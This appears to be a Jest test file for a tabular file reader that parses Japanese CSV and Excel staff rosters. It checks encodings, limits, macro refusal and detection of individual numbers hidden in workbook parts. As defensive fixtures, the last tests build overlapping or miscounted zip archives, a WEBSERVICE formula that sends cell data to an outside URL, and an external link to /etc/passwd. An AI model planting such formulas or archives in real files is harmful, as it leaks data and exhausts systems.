import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { writeXlsx, type WriteSheet } from 'hucre';
import iconv from 'iconv-lite';
import { openTable } from '../../../src/platform/tabular/table-file.js';
import type { OpenTableOptions } from '../../../src/platform/tabular/table.types.js';
import { importFixture } from '../../support/import-fixture.js';
import { withParts } from '../../support/workbook-parts.js';

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'table-file-'));
});
afterAll(() => rm(folder, { recursive: true }));

async function readBytes(bytes: Uint8Array, options?: OpenTableOptions) {
  const path = join(folder, 'file');
  await writeFile(path, bytes);
  return readAll(path, options);
}
async function readAll(path: string, options?: OpenTableOptions) {
  const table = await openTable({ name: 'file', path }, options);
  const rows: [number, ...string[]][] = [];
  for await (const { row, cells } of table.rows) rows.push([row, ...cells]);
  return { encoding: table.encoding, sheets: table.sheets, rows };
}
const xlsx = (...sheets: WriteSheet[]) => writeXlsx({ sheets });

describe('the encoding of a text file', () => {
  it.each([
    ['roster-utf8-bom.csv', 'UTF-8'],
    ['roster-utf8-lf.csv', 'UTF-8'],
    ['roster-cp932-titles-and-notes.csv', 'CP932'],
    ['roster-utf16le-bom.txt', 'UTF-16LE'],
    ['roster-utf16be-bom.csv', 'UTF-16BE'],
    ['roster-utf16le-without-bom.csv', 'UTF-16LE'],
  ])('of %s is %s', async (name, encoding) => {
    const { encoding: found, rows } = await readAll(importFixture(`ok/${name}`).path);
    expect(found).toBe(encoding);
    expect(rows.flat().join()).toContain('見本');
  });

  it('CP932 is Windows-31J: NEC and IBM characters, user-defined ones, half-width kana, the wave dash as Windows has it', async () => {
    const bytes = Buffer.from('87408178878Afbfcfab18160b6c5f04001'.replace('01', ''), 'hex');
    const { rows } = await readBytes(Buffer.concat([bytes, Buffer.from('\n')]));
    expect(rows[0][1]).toBe(
      '①〓㈱髙﨑～ｶﾅ\uE000'.replace('〓', new TextDecoder('shift_jis').decode(Buffer.from('8178', 'hex'))),
    );
  });

  it('is right where characters are cut by the pieces in which a file is read', async () => {
    for (const shift of ['', 'a', 'aa']) {
      const text = `${shift}${'見本花子、'.repeat(60_000)}\n`;
      for (const bytes of [Buffer.from(text), iconv.encode(text, 'cp932'), iconv.encode(text, 'utf-16')]) {
        const { rows } = await readBytes(bytes);
        expect(rows[0][1] === text.trimEnd()).toBe(true);
      }
    }
  });

  it('is UTF-8 in spite of a broken byte when the beginning can be nothing else', async () => {
    const { encoding } = await readAll(importFixture('not-ok/roster-utf8-broken-byte.csv').path);
    expect(encoding).toBe('UTF-8');
  });

  it('is CP932 for a short text in half-width kana', async () => {
    const { encoding, rows } = await readBytes(iconv.encode('ｼﾒｲ,ｶﾅ\nﾐﾎﾝ,ﾊﾅｺ\n', 'cp932'));
    expect([encoding, rows[1]]).toEqual(['CP932', [2, 'ﾐﾎﾝ', 'ﾊﾅｺ']]);
  });
});

describe('a workbook', () => {
  it('is read from its first visible sheet, numbers as Excel shows them', async () => {
    const { encoding, sheets, rows } = await readAll(importFixture('ok/roster-titles-and-dates.xlsx').path);
    expect(encoding).toBe('XLSX');
    expect(sheets).toEqual(['メモ', '名簿']);
    expect(rows.filter(([, first]) => first)).toEqual([
      [1, '職員名簿', '', '', '', '', ''],
      [3, '職員番号', '氏名', '所属コード', '採用年月日', '所属長', '備考'],
      [4, '0045120', '見本 花子', '031205', '2010-04-01', 'TRUE', '1.5'],
      [5, '0045188', '髙﨑 太郎', '031205', 'R4.4.1', '', '二行の\n備考'],
      [7, '※兼務を除く', '', '', '', '', ''],
    ]);
  });

  it('is read from the sheet that is asked for', async () => {
    const { rows } = await readAll(importFixture('ok/roster-titles-and-dates.xlsx').path, { sheet: 'メモ' });
    expect(rows[1]).toEqual([2, '9999999', '別の表', '000000']);
  });

  it('without the sheet that is asked for is refused', async () => {
    const bytes = await xlsx({ name: '名簿', rows: [['a']] });
    await expect(readBytes(bytes, { sheet: '公表用' })).rejects.toMatchObject({ code: 'missing_sheet' });
  });

  it('gives the value of a formula and the text of a rich text', async () => {
    const bytes = await xlsx({
      name: '名簿',
      rows: [['', '', '']],
      cells: new Map([
        ['0,0', { value: null, formula: '1+1', formulaResult: 2 }],
        ['0,1', { richText: [{ text: '見本 ' }, { text: '花子' }] }],
        ['0,2', { value: 46.5, style: { numFmt: '0.00' } }],
      ]) as WriteSheet['cells'],
    });
    expect((await readBytes(bytes)).rows).toEqual([[1, '2', '見本 花子', '46.5']]);
  });

  it('is refused when it unpacks to more than the limit, before it is parsed', async () => {
    const bytes = await xlsx({ name: '名簿', rows: Array.from({ length: 2000 }, (_, i) => [`見本 ${i}`]) });
    await expect(readBytes(bytes, { maxUnpackedBytes: 20_000 })).rejects.toMatchObject({ code: 'too_large' });
  });

  it('is refused when its shared strings come out larger than the limit', async () => {
    const long = 'あ'.repeat(30_000);
    const bytes = await xlsx({ name: '名簿', rows: Array.from({ length: 300 }, () => [long]) });
    await expect(readBytes(bytes, { maxUnpackedBytes: 1_000_000 })).rejects.toMatchObject({
      code: 'too_large',
    });
  });

  it('is refused when parsing takes too long', async () => {
    const bytes = await xlsx({ name: '名簿', rows: Array.from({ length: 20_000 }, (_, i) => [`${i}`, i]) });
    await expect(readBytes(bytes, { timeoutMs: 1 })).rejects.toMatchObject({ code: 'too_large' });
  });

  it('may be left in the middle', async () => {
    const table = await openTable(importFixture('ok/roster-titles-and-dates.xlsx'));
    for await (const { row } of table.rows) {
      expect(row).toBe(1);
      break;
    }
  });
});

describe('a workbook with more in it than its table', () => {
  const NUMBER = '123456789018';
  const inRuns =
    '<r><t>1234</t></r><r><rPr><b/><sz val="11"/></rPr><t>5678</t></r><r><t xml:space="preserve">9018</t></r>';
  const table = () =>
    xlsx({
      name: '名簿',
      rows: [
        ['職員番号', '氏名'],
        ['0001', '見本 花子'],
      ],
    });
  const holds = async (parts: Record<string, string | Buffer>) => {
    const path = join(folder, 'file');
    await writeFile(path, withParts(await table(), parts));
    return (await openTable({ name: 'file', path })).holdsIndividualNumber;
  };

  it.each([
    [
      'a sheet that is not read',
      'xl/worksheets/sheet9.xml',
      `<sheetData><row r="1"><c r="A1"><v>${NUMBER}</v></c></row></sheetData>`,
    ],
    [
      'a comment',
      'xl/comments1.xml',
      `<comments><comment ref="A1"><text><t>個人番号 ${NUMBER}</t></text></comment></comments>`,
    ],
    [
      'a comment, in runs of different looks',
      'xl/comments1.xml',
      `<comment ref="A1"><text>${inRuns}</text></comment>`,
    ],
    ['a threaded comment', 'xl/threadedComments/threadedComment1.xml', `<text>1234-5678-9018 です</text>`],
    ['a string that no cell shows', 'xl/sharedStrings9.xml', `<sst><si>${inRuns}</si></sst>`],
    [
      'the header of the page',
      'xl/worksheets/sheet9.xml',
      `<headerFooter><oddHeader>&amp;C１２３４５６７８９０１８</oddHeader></headerFooter>`,
    ],
    [
      'a text box',
      'xl/drawings/drawing1.xml',
      `<a:p><a:r><a:t>1234</a:t></a:r><a:r><a:rPr lang="ja-JP"/><a:t>56789018</a:t></a:r></a:p>`,
    ],
    [
      'the alternative text of a picture',
      'xl/drawings/drawing1.xml',
      `<xdr:cNvPr id="2" name="図 1" descr="${NUMBER}"/>`,
    ],
    [
      'a link',
      'xl/worksheets/_rels/sheet1.xml.rels',
      `<Relationship Id="r1" Target="https://example.jp/${NUMBER}"/>`,
    ],
    ['a property of the document', 'docProps/core.xml', `<dc:title>${NUMBER}</dc:title>`],
    ['digits written as entities', 'xl/comments1.xml', `<t>&#49;23456789&#x30;18</t>`],
    ['a name', 'xl/workbook9.xml', `<definedName name="kojin">"${NUMBER}"</definedName>`],
    ['a part in UTF-16', 'xl/comments1.xml', Buffer.from(`\uFEFF<t>${NUMBER}</t>`, 'utf16le')],
  ])('tells that an individual number is in %s', async (_place, name, xml) => {
    expect(await holds({ [name]: xml })).toBe(true);
  });

  it('also where the part is so long that it is searched in pieces', async () => {
    const row = (text: string) =>
      `<row r="1" spans="1:3"><c r="A1" t="inlineStr"><is><t>${text}</t></is></c></row>`;
    for (const before of [17_000, 17_003, 19_990]) {
      const xml = `<sheetData>${row('見本花子').repeat(before)}${row(NUMBER)}${row('見本花子').repeat(20_000)}</sheetData>`;
      expect(await holds({ 'xl/worksheets/sheet9.xml': xml })).toBe(true);
    }
  });

  it('and does not take results of formulas, ids, dates or places for one', async () => {
    const xml = `<sheetData><row r="123456789018"><c r="A1"><v>0.123456789018</v></c><c><v>1234567.89018</v></c><c><v>1.23456789018E+5</v></c></row></sheetData>
      <xdr:colOff>1234567</xdr:colOff><xdr:rowOff>89018</xdr:rowOff><ext uri="{12345678-9018-0000-0000-00000000000a}"/>
      <dcterms:created>2022-10-31T09:00:00Z</dcterms:created>`;
    expect(await holds({ 'xl/worksheets/sheet9.xml': xml })).toBe(false);
  });

  it('is refused with a macro', async () => {
    const path = join(folder, 'file');
    await writeFile(path, withParts(await table(), { 'xl/vbaProject.bin': 'Attribute VB_Name' }));
    await expect(openTable({ name: 'file', path })).rejects.toMatchObject({ code: 'macro_xlsx' });
  });

  it('is refused with thousands of parts, and with parts that its directory does not count', async () => {
    const many = Object.fromEntries(Array.from({ length: 5_001 }, (_, n) => [`xl/media/${n}.xml`, '<a/>']));
    await expect(readBytes(withParts(await table(), many))).rejects.toMatchObject({ code: 'too_large' });

    const bytes = withParts(await table(), { 'xl/hidden.xml': '<a>123456789018</a>' });
    const end = bytes.lastIndexOf('PK\x05\x06', undefined, 'latin1');
    bytes.writeUInt16LE(bytes.readUInt16LE(end + 10) - 1, end + 10);
    await expect(readBytes(bytes)).rejects.toMatchObject({ code: 'broken_xlsx' });
  });

  it('is refused where parts that lie over each other say together that they are too large', async () => {
    const bytes = withParts(await table(), { 'xl/a.xml': 'a'.repeat(9_000), 'xl/b.xml': 'b'.repeat(9_000) });
    // Both names lead to the same bytes: each counts.
    const directory = bytes.readUInt32LE(bytes.lastIndexOf('PK\x05\x06', undefined, 'latin1') + 16);
    const [a, b] = ['xl/a.xml', 'xl/b.xml'].map((name) => bytes.indexOf(name, directory) - 46);
    bytes.writeUInt32LE(bytes.readUInt32LE(a! + 42), b! + 42);
    await expect(readBytes(bytes, { maxUnpackedBytes: 15_000 })).rejects.toMatchObject({
      code: 'too_large',
    });
  });

  it('is read by the values that were kept, where formulas and links to other books stand', async () => {
    const sheet = `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
      <row r="1"><c r="A1" t="str"><f>WEBSERVICE("https://example.jp/?"&amp;A2)</f><v>職員番号</v></c>
      <c r="B1" t="str"><f>'[1]Sheet1'!A1</f><v>氏名</v></c></row></sheetData></worksheet>`;
    const { rows } = await readBytes(
      withParts(await table(), {
        'xl/worksheets/sheet1.xml': sheet,
        'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook/></externalLink>',
        'xl/externalLinks/_rels/externalLink1.xml.rels':
          '<Relationships><Relationship Id="rId1" Target="file:///etc/passwd" TargetMode="External"/></Relationships>',
      }),
    );
    expect(rows).toEqual([[1, '職員番号', '氏名']]);
  });
});
